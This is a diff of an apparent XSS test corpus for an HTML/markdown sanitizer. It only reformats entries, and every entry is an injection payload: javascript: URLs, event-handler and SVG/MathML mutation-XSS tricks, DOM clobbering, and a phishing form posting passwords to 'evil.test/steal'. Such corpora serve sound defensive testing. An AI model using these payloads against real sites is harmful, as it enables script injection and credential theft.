@@ -141,10 +141,13 @@ export const xssCorpus = {
     p('js-link: double backslash host', '<a href="\\\\evil.test/phish">x</a>'),
     p('js-link: xlink:href on a', '<a xlink:href="javascript:alert(1)">x</a>'),
   ],
-  'images': [
+  images: [
     p('img: markdown javascript src', '![x](javascript:alert(1))'),
     p('img: markdown data svg', `![x](data:image/svg+xml;base64,${SVG_B64})`),
-    p('img: markdown data png', '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)'),
+    p(
+      'img: markdown data png',
+      '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)',
+    ),
     p('img: markdown foreign origin', '![x](https://evil.test/track.png)'),
     p('img: markdown http same host', '![x](http://help.example.test/a.png)'),
     p('img: markdown other port', '![x](https://help.example.test:8443/a.png)'),
@@ -164,22 +167,28 @@ export const xssCorpus = {
     p('img: entity-encoded javascript src', `<img src="${JS_DEC}alert(1)">`),
     p('img: data URL relative to nothing', '<img src="data:,x">'),
   ],
-  'SVG': [
+  SVG: [
     p('svg: onload', '<svg onload=alert(1)>'),
     p('svg: slash onload', '<svg/onload=alert(1)>'),
     p('svg: script', '<svg><script>alert(1)</script></svg>'),
     p('svg: script href', '<svg><script href="data:,alert(1)"/></svg>'),
     p('svg: a xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
-    p('svg: animate attributeName href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>'),
+    p(
+      'svg: animate attributeName href',
+      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>',
+    ),
     p('svg: set attributeName href', '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>'),
-    p('svg: foreignObject iframe', '<svg><foreignObject><iframe srcdoc="<script>top.__xss.push(1)</script>"></iframe></foreignObject></svg>'),
+    p(
+      'svg: foreignObject iframe',
+      '<svg><foreignObject><iframe srcdoc="<script>top.__xss.push(1)</script>"></iframe></foreignObject></svg>',
+    ),
     p('svg: foreignObject img onerror', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'),
     p('svg: style breakout', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
     p('svg: use data href', `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"/></svg>`),
     p('svg: image href', '<svg><image href="javascript:alert(1)"/></svg>'),
     p('svg: in a markdown paragraph', 'See <svg><g onload=alert(1)></g></svg> here'),
   ],
-  'MathML': [
+  MathML: [
     p('math: mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'),
     p('math: mglyph comment mXSS', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
     p('math: form nesting mXSS', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
@@ -201,14 +210,17 @@ export const xssCorpus = {
     p('embed: applet', '<applet code="x" archive="https://evil.test/x.jar"></applet>'),
     p('embed: video poster and track', '<video poster="javascript:alert(1)"><track src="https://evil.test/t.vtt"></video>'),
   ],
-  'forms': [
+  forms: [
     p('form: action javascript', '<form action="javascript:alert(1)"><button>x</button></form>'),
     p('form: button formaction', '<button formaction="javascript:alert(1)">x</button>'),
     p('form: input submit formaction', '<form><input type=submit formaction="javascript:alert(1)"></form>'),
     p('form: button form= attribute', '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>'),
     p('form: button formtarget', '<form action="https://evil.test"><button formtarget="_top">x</button></form>'),
     p('form: isindex', '<isindex action=javascript:alert(1) type=image>'),
-    p('form: phishing password field', '<form action="https://evil.test/steal" method="post">Password: <input type="password" name="pw"><button>Log in</button></form>'),
+    p(
+      'form: phishing password field',
+      '<form action="https://evil.test/steal" method="post">Password: <input type="password" name="pw"><button>Log in</button></form>',
+    ),
   ],
   'document-level tags': [
     p('doc: meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
@@ -220,7 +232,7 @@ export const xssCorpus = {
     p('doc: link rel stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">'),
     p('doc: title breakout', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
   ],
-  'CSS': [
+  CSS: [
     p('css: style @import', "<style>@import 'https://evil.test/x.css';</style>"),
     p('css: style url javascript', '<style>body{background:url("javascript:alert(1)")}</style>'),
     p('css: style expression', '<style>*{x:expression(alert(1))}</style>'),
@@ -264,7 +276,10 @@ export const xssCorpus = {
     p('clobber: id cookie', '<p id=cookie>x</p>'),
     p('clobber: img name body', '<img name=body src="https://help.example.test/a.png">'),
     p('clobber: form id', '<form id=location><input name=href value="javascript:alert(1)"></form>'),
-    p('clobber: a id and name chain', '<a id=defaultView href="https://a.test">x</a><a id=defaultView name=alert href="https://a.test">y</a>'),
+    p(
+      'clobber: a id and name chain',
+      '<a id=defaultView href="https://a.test">x</a><a id=defaultView name=alert href="https://a.test">y</a>',
+    ),
     p('clobber: class and data attributes', '<span class="kotae-launcher" data-kotae="x">x</span>'),
     p('clobber: form attributes', '<form><input name=attributes><input name=nodeName></form>'),
     p('clobber: sentinel', '<img name=__xss src="https://help.example.test/a.png"><a id=__xss href="https://a.test">x</a>'),
@@ -314,7 +329,10 @@ export const xssCorpus = {
   'nested mixtures': [
     p('nested: strong around img onerror', '**<img src=x onerror=alert(1)>**'),
     p('nested: blockquote js link', '> [x](javascript:alert(1))'),
-    p('nested: details summary js link', '- <details><summary>[x](javascript:alert(1))</summary>\n\n  [y](javascript:alert(1))\n\n  </details>'),
+    p(
+      'nested: details summary js link',
+      '- <details><summary>[x](javascript:alert(1))</summary>\n\n  [y](javascript:alert(1))\n\n  </details>',
+    ),
     p('nested: table cell img onerror', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'),
     p('nested: markdown inside a raw div', '<div>\n\n[x](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n</div>'),
     p('nested: markdown link inside raw a', '<a href="https://a.test">[x](javascript:alert(1))</a>'),
